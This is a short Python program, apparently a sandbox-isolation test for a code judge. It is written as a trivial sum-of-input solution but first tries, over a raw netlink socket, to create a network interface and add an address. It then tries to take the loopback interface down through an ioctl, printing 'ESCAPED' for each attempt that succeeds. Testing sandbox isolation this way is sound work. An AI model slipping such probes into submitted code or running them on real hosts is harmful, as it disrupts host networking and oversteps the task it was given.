# what = "Makes, changes and addresses network interfaces."

import fcntl
import socket
import struct
import sys

link = socket.socket(16, socket.SOCK_RAW, 0)
for kind, body in ((16, struct.pack("=BxHiII", 0, 0, 0, 1, 1)), (20, struct.pack("=BBBBI", 2, 8, 0, 254, 1))):
    link.send(struct.pack("=LHHLL", 16 + len(body), kind, 0x601 | 4, 1, 0) + body)
    code = struct.unpack_from("=i", link.recv(4096), 16)[0]
    if code >= 0:
        print("ESCAPED", kind, code, file=sys.stderr)
try:
    fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8914, struct.pack("16sH14x", b"lo", 0))
    print("ESCAPED took lo down", file=sys.stderr)
except OSError:
    pass

print(sum(map(int, input().split())))
